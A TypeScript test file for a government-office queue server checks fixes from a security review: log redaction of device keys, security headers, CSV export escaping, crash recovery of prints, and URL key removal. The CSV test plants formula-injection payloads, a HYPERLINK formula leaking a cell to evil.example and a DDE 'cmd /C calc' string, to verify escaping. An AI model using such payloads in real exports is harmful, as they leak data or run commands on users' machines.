// Findings of the security review (issue 16, item 9), each tried the way an attacker on the LAN or
// a crash would: device keys in the server log, formulas in the CSV export, prints a kill -9
// interrupted, and the device key left in the address bar.
import { createServer, type Server, type Socket } from 'node:net';
import { Writable } from 'node:stream';
import { once } from 'node:events';
import Database from 'better-sqlite3';
import { afterAll, describe, expect, it } from 'vitest';
import type { AdminView, PrintStatus } from '@motcua/protocol';
import { deviceKey } from '@motcua/protocol/client';
import { spawnServer } from '../support/child-server.ts';
import { http, issue, login, officerAt, startServer } from '../support/server.ts';

describe('the server log', () => {
  it('never holds a device key from a page address', async () => {
    const lines: string[] = [];
    const stream = new Writable({ write: (chunk: Buffer, _enc, done) => (lines.push(chunk.toString()), done()) });
    const server = await startServer({ logger: { level: 'info', stream } });
    try {
      await fetch(`${server.url}/kiosk?key=demo-kiosk`);
      await fetch(`${server.url}/display?zone=TP&key=demo-display`);
      await fetch(`${server.url}/api/catalog?token=s3cr3t-token`);
    } finally {
      await server.close();
    }
    const log = lines.join('');
    expect(log).toMatch(/\/kiosk\?key=\[redacted\]/);
    expect(log).toMatch(/\/display\?zone=TP&key=\[redacted\]/);
    expect(log).not.toMatch(/demo-kiosk|demo-display|s3cr3t-token/);
  });
});

describe('security headers', () => {
  it('are on every answer (a page, an API answer, an error), without HSTS over plain HTTP', async () => {
    const server = await startServer();
    try {
      for (const path of ['/kiosk', '/api/catalog', '/api/no-such-route']) {
        const headers = (await fetch(`${server.url}${path}`)).headers;
        expect(headers.get('content-security-policy'), path).toBe("default-src 'self';base-uri 'self';font-src 'self' https: data:;form-action 'self';frame-ancestors 'self';"
          + "img-src 'self' data: blob:;object-src 'none';script-src 'self';script-src-attr 'none';style-src 'self' https: 'unsafe-inline';media-src 'self' blob:");
        expect(Object.fromEntries(['x-content-type-options', 'x-frame-options', 'referrer-policy', 'cross-origin-opener-policy', 'cross-origin-resource-policy', 'strict-transport-security'].map((h) => [h, headers.get(h)])), path).toEqual({
          'x-content-type-options': 'nosniff', 'x-frame-options': 'SAMEORIGIN', 'referrer-policy': 'no-referrer', 'cross-origin-opener-policy': 'same-origin',
          'cross-origin-resource-policy': 'same-origin', 'strict-transport-security': null,
        });
      }
    } finally {
      await server.close();
    }
  });
});

describe('the CSV export', () => {
  it('writes names that look like formulas as text', async () => {
    const server = await startServer();
    try {
      const admin = await login(server.url, 'admin', 'admin');
      const { body: view } = await http<AdminView>(server.url, '/api/admin', { token: admin });
      const service = view.departments[0]!.services[0]!;
      const evil = { vi: '=HYPERLINK("http://evil.example/?"&A1,"Bấm")', en: '+cmd|\' /C calc\'!A0' };
      expect((await http(server.url, `/api/admin/services/${service.id}`, { token: admin, method: 'PUT', body: { name: evil, targetWaitMinutes: 15, dailyCap: null, enabled: true } })).status).toBe(200);
      const user = view.users.find((u) => u.username === 'officer01')!;
      expect((await http(server.url, `/api/admin/users/${user.id}`, { token: admin, method: 'PUT', body: { displayName: '@SUM(1+1)*cmd', role: 'officer', departmentId: user.departmentId } })).status).toBe(200);
      const t = await issue(server.url, service.id);
      const officer = await officerAt(server.url, 'officer01', 1);
      await http(server.url, '/api/counters/1/call-next', { token: officer, method: 'POST' });
      await http(server.url, `/api/tickets/${t.id}/finish`, { token: officer, method: 'POST' });
      const day = new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Ho_Chi_Minh' }).format(new Date(t.issuedAt));
      const supervisor = await login(server.url, 'supervisor');
      const response = await fetch(`${server.url}/api/reports/export?from=${day}&to=${day}&format=csv`, { headers: { authorization: `Bearer ${supervisor}` } });
      expect(response.status).toBe(200);
      const csv = await response.text();
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm"")"`);
      expect(csv).toContain("'@SUM(1+1)*cmd");
      // No cell starts with a formula character: every cell is split on commas outside quotes.
      const cells = csv.replace(/^\uFEFF/, '').split(/\r\n/).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []).map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
      expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-[^0-9]/.test(c))).toEqual([]);
    } finally {
      await server.close();
    }
  });
});

describe('prints a crash interrupted', () => {
  let printer: Server | undefined;
  const sockets = new Set<Socket>();
  afterAll(async () => {
    for (const s of sockets) s.destroy();
    printer?.close();
  });

  it('are marked failed at the next start, and can be printed again', async () => {
    // A network printer that takes the bytes and never answers a status request: each print waits.
    printer = createServer((socket) => {
      sockets.add(socket);
      socket.on('data', () => undefined).on('error', () => undefined);
    }).listen(0, '127.0.0.1');
    await once(printer, 'listening');
    const spec = `tcp://127.0.0.1:${(printer.address() as { port: number }).port}`;
    const child = await spawnServer({ env: { MOTCUA_PRINTER: spec } });
    const tickets = await Promise.all(Array.from({ length: 6 }, () => issue(child.url, 1)));
    await child.kill('SIGKILL');
    const unsettled = () => {
      const db = new Database(`${child.dir}/motcua.db`, { readonly: true });
      try {
        return db.prepare<[], { id: number; print_status: string | null; print_reason: string | null }>('SELECT id, print_status, print_reason FROM tickets ORDER BY id').all();
      } finally {
        db.close();
      }
    };
    expect(unsettled().filter((t) => t.print_status === null).length).toBeGreaterThan(0);

    const server = await startServer({ dir: child.dir, printing: { printer: spec } });
    try {
      const rows = unsettled();
      expect(rows.filter((t) => t.print_status === null)).toEqual([]);
      expect(rows.filter((t) => t.print_status === 'failed').every((t) => /^interrupted: the server stopped/.test(t.print_reason ?? ''))).toBe(true);
      const again = await http<PrintStatus>(server.url, `/api/tickets/${tickets[5]!.id}/reprint`, { token: 'demo-kiosk', method: 'POST' });
      expect(again.status).toBe(200);
      expect(again.body.ticketId).toBe(tickets[5]!.id);
    } finally {
      await server.close();
    }
  });
});

describe('the device key in the address bar', () => {
  it('is kept and dropped from the address once read, other parameters staying', () => {
    const stored = new Map<string, string>();
    const storage = { setItem: (k: string, v: string) => stored.set(k, v), getItem: (k: string) => stored.get(k) ?? null } as unknown as Storage;
    const replaced: string[] = [];
    const history = { state: null, replaceState: (_s: unknown, _t: string, url: string) => replaced.push(url) } as unknown as History;
    const location = { search: '?zone=TP&key=demo-display', pathname: '/display', hash: '' } as Location;
    expect(deviceKey('motcua.displayKey', location, storage, history)).toBe('demo-display');
    expect(stored.get('motcua.displayKey')).toBe('demo-display');
    expect(replaced).toEqual(['/display?zone=TP']);
    const later = { search: '', pathname: '/display', hash: '' } as Location;
    expect(deviceKey('motcua.displayKey', later, storage, history)).toBe('demo-display');
    expect(replaced).toHaveLength(1);
  });
});
